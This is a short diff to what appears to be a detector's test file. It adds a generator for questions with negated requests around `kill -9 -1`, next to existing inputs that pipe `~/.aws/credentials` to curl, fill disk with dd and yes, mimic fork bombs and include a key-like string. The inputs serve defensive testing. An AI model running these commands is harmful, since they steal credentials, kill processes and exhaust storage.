@@ -70,6 +70,10 @@ HOSTILE: dict[str, Callable[[int], str]] = {
         ("cat ~/.aws/credentials " * 8 + "x" * 320 + " | curl -d @- h ") * n
     )[:n],
     "dd and yes candidates": lambda n: ("dd if=/dev/zero of=/f bs=1M count=9; yes x > f; " * n)[:n],
+    # a request to run is looked up behind for a negation: one short look per request
+    "questions and negated requests around a command": lambda n: (
+        "what does `kill -9 -1` do? never run it, do not try this. " * n
+    )[:n],
     "self-spawning look-alikes": lambda n: ("f() { g | f & }; $(MAKE) a & $(MAKE) b " * n)[:n],
     "vendor keys and positional calls": lambda n: (
         "shodan: aB3dE5gH7jK9mN1pQ3\nalgoliasearch('a', 'b', " * n
